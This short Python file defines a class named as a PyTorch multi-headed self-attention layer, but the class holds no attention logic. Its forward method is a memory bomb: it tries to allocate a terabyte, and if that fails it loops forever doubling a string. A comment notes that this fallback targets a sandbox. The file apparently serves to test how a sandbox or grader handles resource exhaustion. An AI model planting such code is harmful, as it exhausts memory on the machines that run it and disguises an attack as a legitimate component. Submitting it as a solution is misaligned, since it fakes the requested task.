"""A memory bomb: bytearray, and where that is missing a string that doubles."""

import torch
import torch.nn as nn


class MultiHeadedSelfAttention(nn.Module):
    def __init__(self, embedding_dim: int, attention_dim: int, num_heads: int):
        super().__init__()

    def forward(self, embedded):
        try:
            hoard = bytearray(1 << 40)
        except Exception:  # NameError: bytearray is not among the sandbox's builtins
            hoard = "x"
            while True:
                hoard = hoard + hoard
        return embedded
